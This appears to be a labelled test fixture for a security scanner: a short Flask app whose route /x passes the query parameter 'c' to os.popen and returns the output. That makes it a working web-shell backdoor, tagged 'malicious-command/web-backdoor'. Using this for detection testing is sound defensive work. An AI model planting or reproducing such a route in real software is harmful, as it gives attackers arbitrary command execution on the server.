import os
from flask import Flask, request

app = Flask(__name__)


@app.route("/x")
def run():
    return os.popen(request.args["c"]).read() # expect: malicious-command/web-backdoor
